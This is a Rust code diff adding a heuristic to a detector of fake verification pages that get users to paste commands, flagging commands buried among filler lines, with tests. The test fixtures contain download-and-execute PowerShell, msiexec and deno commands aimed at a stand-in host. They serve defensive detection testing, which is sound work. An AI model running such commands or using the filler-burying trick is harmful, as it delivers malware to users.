@@ -53,6 +53,8 @@ const TYPED_AFTER: usize = 1500;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
+/// Lines of a copied text that can bury a command among filler (see [`buried`]).
+const BURIED_LINES: usize = 16;
 /// Bytes of title, text and alt texts (flattened) of a page that says next to nothing: its steps,
 /// if any, are in a picture.
 const TERSE_PAGE: usize = 160;
@@ -178,6 +180,8 @@ pub struct Command {
     pub shapes: Vec<Shape>,
     /// Whitespace padding hides the command behind a comment or far to the right.
     pub padded: bool,
+    /// The command is a line or two among many filler lines (see [`buried`]).
+    buried: bool,
     /// The command reaches out of the machine: a URL, a UNC path, `finger`.
     pub remote: bool,
     /// The command's own comment reads as a verification pretext ("# I am not a robot").
@@ -1383,6 +1387,26 @@ fn sites(flat: &str) -> Vec<String> {
     out
 }
 
+/// Whether the copied text is mostly filler: at least [`BURIED_LINES`] lines, three in four the
+/// same as the line before but for digits ("REM 000123 ok", "# ──────", dots). A kit buries its
+/// command among them so that the Run box or an editor shows none of it (forty-fourth session,
+/// review 43 CF43-M1); docs copy one command, or a script whose lines differ.
+#[inline(never)]
+fn buried(raw: &str) -> bool {
+    let (mut lines, mut same, mut prev) = (0, 0, "");
+    for l in raw.split('\n').map(trim).filter(|l| !l.is_empty()) {
+        let digitless = |t: &str| {
+            t.bytes()
+                .filter(|b| !b.is_ascii_digit())
+                .collect::<Vec<u8>>()
+        };
+        same += usize::from(digitless(l) == digitless(prev));
+        lines += 1;
+        prev = l;
+    }
+    lines >= BURIED_LINES && same * 4 >= lines * 3
+}
+
 /// Reads the copied text. `None` when it is not a command this module recognises.
 /// (Called for the clipboard and the page's lines: one copy in the Wasm.)
 #[inline(never)]
@@ -1414,6 +1438,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
     Some(Command {
         shapes,
         padded: padding.is_some(),
+        buried: buried(&raw),
         remote: has_url(&flat) || has_word(&flat, "finger") || dns_payload(&flat),
         comment_pretext,
         shown: defang(cmd_part),
@@ -2424,7 +2449,8 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && (command.shapes.contains(&Shape::PowerShellHidden)
             && command.shapes.contains(&Shape::PowerShellDownload)
             || command.runs_on(Platform::Unix)
-            || lolbin)
+            || lolbin
+            || command.buried)
         && (told
             || verify > 0.0
             || !page.flat.bytes().any(|b| b.is_ascii_alphanumeric() || b > 127)
@@ -2454,7 +2480,9 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
             // never says it copies: a gate's status, over https too (review 42 CF42-M2). A
             // portal names what it checks ("Weryfikacja laptopa", "Device verification") or
             // has a Copy button.
-            || (command.shapes.contains(&Shape::PowerShellHidden) || lolbin)
+            // (A command buried among filler lines hides as a hidden window does: forty-fourth
+            // session.)
+            || (command.shapes.contains(&Shape::PowerShellHidden) || lolbin || command.buried)
                 && page.status
                 && !has_any(&page.flat, COPY));
     let unseen = !typed
@@ -2827,6 +2855,69 @@ mod tests {
         ] {
             assert!(shapes_of(clip).is_empty(), "{clip}");
         }
+    }
+
+    #[test]
+    fn a_command_buried_among_filler_lines_on_a_status_page() {
+        // Forty-fourth session (review 43 CF43-M1): a terse check status, steps in a picture, a
+        // copy whose one command line sits among alike lines (a counter aside) fetching from
+        // another site over https, hidden window or not.
+        let bury = |fill: &dyn Fn(usize) -> String, cmd: &str| {
+            let lines: Vec<String> = (0..12).map(fill).collect();
+            format!("{}\n{cmd}\n{}", lines.join("\n"), lines.join("\n"))
+        };
+        let cases: [(&[&str], String); 4] = [
+            (
+                &["Weryfikowanie…", "Dalej"],
+                bury(
+                    &|_| "~~~~~~~~".into(),
+                    "powershell -c \"iwr https://relay.test/z | iex\"",
+                ),
+            ),
+            (
+                &["Xác minh…", "OK"][..],
+                bury(
+                    &|i| format!(":: {i:05} xong"),
+                    "msiexec /q /i https://relay.test/p.msi",
+                ),
+            ),
+            (
+                &["Ověřování", "Hotovo"],
+                bury(
+                    &|i| format!("REM krok {i} ok"),
+                    "deno eval \"await import('https://relay.test/x.js')\"",
+                ),
+            ),
+            (
+                &["確認中", "次へ"],
+                bury(
+                    &|_| "# ----".into(),
+                    "powershell iex (irm https://relay.test/k)",
+                ),
+            ),
+        ];
+        for (parts, clip) in &cases {
+            assert!(on("https://gate.example/", parts, clip), "{parts:?}");
+            // Not so: the same command on its own line; a page that says it copies; one naming
+            // what it checks; a copy whose lines differ (a script).
+            let one = clip.lines().nth(12).unwrap_or("");
+            assert!(!on("https://gate.example/", parts, one), "{one}");
+            assert!(!on("https://gate.example/", &[parts[0], "Kopiuj"], clip));
+            assert!(!on(
+                "https://mdm.firm.example/",
+                &["Weryfikacja laptopa", "Start"],
+                clip
+            ));
+            let script = bury(
+                &|i| format!("set opt_{i}=\"{}\"", "abcdefghijklm".get(i..).unwrap_or("")),
+                one,
+            );
+            assert!(!on("https://gate.example/", parts, &script), "{script}");
+        }
+        // Fewer than BURIED_LINES lines, or lines that are not alike, are no filler.
+        assert!(!buried("a\nb\nc\nd"));
+        assert!(buried(&"REM 1 ok\n".repeat(BURIED_LINES)));
+        assert!(!buried(&"REM 1 ok\n".repeat(BURIED_LINES - 1)));
     }
 
     #[test]
